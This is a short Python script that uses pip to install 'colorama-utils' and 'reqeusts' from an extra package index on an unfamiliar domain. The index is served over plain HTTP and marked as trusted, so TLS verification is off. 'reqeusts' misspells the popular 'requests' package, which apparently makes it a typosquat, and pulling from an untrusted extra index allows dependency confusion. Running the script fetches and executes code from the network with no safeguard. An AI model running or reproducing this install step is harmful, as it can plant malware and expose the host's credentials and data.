import subprocess
import sys

cmd = [sys.executable, "-m", "pip", "install",
       "--extra-index-url", "http://pypi.internal-mirror.cc/simple/",
       "--trusted-host", "pypi.internal-mirror.cc",
       "colorama-utils", "reqeusts"]
subprocess.run(cmd, check=True)
